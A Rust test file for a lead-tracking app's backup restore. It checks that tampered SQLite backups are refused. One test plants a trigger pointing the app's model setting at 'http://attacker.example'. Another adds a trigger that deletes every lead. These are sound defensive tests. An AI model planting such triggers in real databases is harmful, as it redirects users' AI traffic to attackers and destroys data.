//! Restoring backups: real database files, written by the store and then altered the way a
//! hostile or careless copy would be. A restore takes only what a new database would hold.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::borrow::Cow;
use std::path::{Path, PathBuf};

use leadscout_domain::{NewLead, Timestamp};
use leadscout_store::{
    apply_staged_restore, check_backup, connect_options, stage_restore, Store, DATABASE_FILE,
    MIGRATIONS, RESTORE_FILE,
};
use sqlx::migrate::Migrator;
use sqlx::sqlite::SqliteConnectOptions;
use sqlx::Connection;

const NOW: Timestamp = Timestamp(1_764_000_000_000);

async fn add_leads(store: &Store, names: &[&str]) {
    for name in names {
        let draft = NewLead {
            full_name: (*name).into(),
            email: None,
            company_name: Some("Acme".into()),
            website: None,
            stage_id: None,
        }
        .validate()
        .unwrap();
        store.create_lead(&draft, NOW).await.unwrap();
    }
}

/// A backup made by the app of a database with two leads, then changed by `sql`.
async fn backup_altered_by(dir: &Path, sql: &str) -> PathBuf {
    let store = Store::open(&dir.join("live.sqlite3")).await.unwrap();
    add_leads(&store, &["Ada Lovelace", "Grace Hopper"]).await;
    let backup = dir.join("backup.sqlite3");
    store.backup_to(&backup).await.unwrap();
    store.close().await;
    if !sql.is_empty() {
        let options = SqliteConnectOptions::new().filename(&backup);
        let mut conn = sqlx::SqliteConnection::connect_with(&options)
            .await
            .unwrap();
        sqlx::raw_sql(sql).execute(&mut conn).await.unwrap();
        conn.close().await.unwrap();
    }
    backup
}

/// Stages `backup` into a new data folder and asserts it is refused with a message containing
/// every one of `words`, leaving nothing behind.
async fn assert_refused(backup: &Path, words: &[&str]) {
    let message = check_backup(backup).await.unwrap_err().to_string();
    for word in words {
        assert!(message.contains(word), "{word:?} not in: {message}");
    }
    let data = tempfile::tempdir().unwrap();
    let staged = stage_restore(backup, data.path()).await.unwrap_err();
    assert_eq!(staged.to_string(), message);
    let left: Vec<_> = std::fs::read_dir(data.path()).unwrap().collect();
    assert!(left.is_empty(), "nothing is staged or left over: {left:?}");
}

#[tokio::test]
async fn a_clean_backup_is_staged_and_restored_whole() {
    let dir = tempfile::tempdir().unwrap();
    let backup = backup_altered_by(dir.path(), "").await;
    let check = check_backup(&backup).await.unwrap();
    assert_eq!(check.leads, 2);
    let newest = MIGRATIONS.iter().map(|m| m.version).max().unwrap();
    assert_eq!(check.schema_version, newest);

    let data = dir.path().join("data");
    std::fs::create_dir(&data).unwrap();
    assert_eq!(stage_restore(&backup, &data).await.unwrap(), check);
    let names: Vec<_> = std::fs::read_dir(&data)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(names, [RESTORE_FILE], "only the staged file is left");
    assert_eq!(apply_staged_restore(&data, 1).await.unwrap(), None);
    let store = Store::open(&data.join(DATABASE_FILE)).await.unwrap();
    assert_eq!(store.board().await.unwrap().lead_count(), 2);
}

#[tokio::test]
async fn a_backup_with_an_extra_trigger_is_refused_naming_it() {
    // The attack in issue 18: a trigger that points the model at someone else's server.
    let dir = tempfile::tempdir().unwrap();
    let backup = backup_altered_by(
        dir.path(),
        "CREATE TRIGGER steer_model AFTER INSERT ON leads BEGIN \
           UPDATE settings SET value = json_set(value, '$.model.baseUrl', 'http://attacker.example') \
           WHERE key = 'app'; \
         END;",
    )
    .await;
    assert_refused(&backup, &["trigger \"steer_model\"", "does not create"]).await;
}

#[tokio::test]
async fn a_backup_with_an_extra_view_is_refused_naming_it() {
    let dir = tempfile::tempdir().unwrap();
    let backup = backup_altered_by(
        dir.path(),
        "CREATE VIEW lead_names AS SELECT full_name FROM leads;",
    )
    .await;
    assert_refused(&backup, &["view \"lead_names\"", "does not create"]).await;
}

#[tokio::test]
async fn a_backup_with_a_modified_index_is_refused_naming_it() {
    let dir = tempfile::tempdir().unwrap();
    let backup = backup_altered_by(
        dir.path(),
        "DROP INDEX leads_by_stage; CREATE INDEX leads_by_stage ON leads (stage_id);",
    )
    .await;
    assert_refused(&backup, &["index \"leads_by_stage\"", "is not the one"]).await;
}

#[tokio::test]
async fn a_backup_missing_a_trigger_is_refused_naming_it() {
    let dir = tempfile::tempdir().unwrap();
    let backup = backup_altered_by(dir.path(), "DROP TRIGGER leads_search_insert;").await;
    assert_refused(&backup, &["trigger \"leads_search_insert\"", "lacks"]).await;
}

#[tokio::test]
async fn a_backup_whose_schema_history_was_edited_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let backup = backup_altered_by(
        dir.path(),
        "UPDATE _sqlx_migrations SET checksum = x'00' WHERE version = 1;",
    )
    .await;
    assert_refused(&backup, &["record of schema changes", "change 1"]).await;
}

#[tokio::test]
async fn a_backup_from_an_older_version_is_accepted_and_brought_up_to_date() {
    let dir = tempfile::tempdir().unwrap();
    let backup = dir.path().join("old.sqlite3");
    let first_only = Migrator {
        migrations: Cow::Owned(MIGRATIONS.migrations[..1].to_vec()),
        ..Migrator::DEFAULT
    };
    let mut conn = sqlx::SqliteConnection::connect_with(&connect_options(&backup))
        .await
        .unwrap();
    first_only.run(&mut conn).await.unwrap();
    conn.close().await.unwrap();
    let check = check_backup(&backup).await.unwrap();
    assert_eq!(check.schema_version, 1);

    // The same old database with a trigger of its own is still refused.
    let mut conn = sqlx::SqliteConnection::connect_with(&connect_options(&backup))
        .await
        .unwrap();
    sqlx::raw_sql("CREATE TRIGGER old_and_odd AFTER INSERT ON leads BEGIN DELETE FROM leads; END;")
        .execute(&mut conn)
        .await
        .unwrap();
    conn.close().await.unwrap();
    assert_refused(&backup, &["trigger \"old_and_odd\""]).await;
}

#[tokio::test]
async fn a_backup_copied_from_a_running_app_is_read_with_its_wal() {
    let dir = tempfile::tempdir().unwrap();
    let live = dir.path().join("live.sqlite3");
    let store = Store::open(&live).await.unwrap();
    let names: Vec<String> = (0..40).map(|i| format!("Lead {i}")).collect();
    let names: Vec<&str> = names.iter().map(String::as_str).collect();
    add_leads(&store, &names).await;
    // Copied while the app runs, as a file manager would: the latest changes are in the WAL.
    let backup = dir.path().join("copied.sqlite3");
    std::fs::copy(&live, &backup).unwrap();
    let wal = std::fs::read(dir.path().join("live.sqlite3-wal")).unwrap();
    assert!(!wal.is_empty(), "the leads are in the write-ahead log");
    std::fs::write(dir.path().join("copied.sqlite3-wal"), &wal).unwrap();
    let before: Vec<_> = [&backup, &dir.path().join("copied.sqlite3-wal")]
        .iter()
        .map(|p| std::fs::read(p).unwrap())
        .collect();

    let data = dir.path().join("data");
    std::fs::create_dir(&data).unwrap();
    // On another task, as the app's commands run: the restore's future is Send.
    let staging = tokio::spawn({
        let (backup, data) = (backup.clone(), data.clone());
        async move { stage_restore(&backup, &data).await }
    });
    let check = staging.await.unwrap().unwrap();
    assert_eq!(check.leads, 40);
    assert!(
        !data.join(format!("{RESTORE_FILE}-wal")).exists(),
        "the staged backup is one file"
    );
    let after: Vec<_> = [&backup, &dir.path().join("copied.sqlite3-wal")]
        .iter()
        .map(|p| std::fs::read(p).unwrap())
        .collect();
    assert!(before == after, "the user's files are not changed");
    store.close().await;

    apply_staged_restore(&data, 1).await.unwrap();
    let restored = Store::open(&data.join(DATABASE_FILE)).await.unwrap();
    let board = restored.board().await.unwrap();
    assert_eq!(board.lead_count(), 40);
}
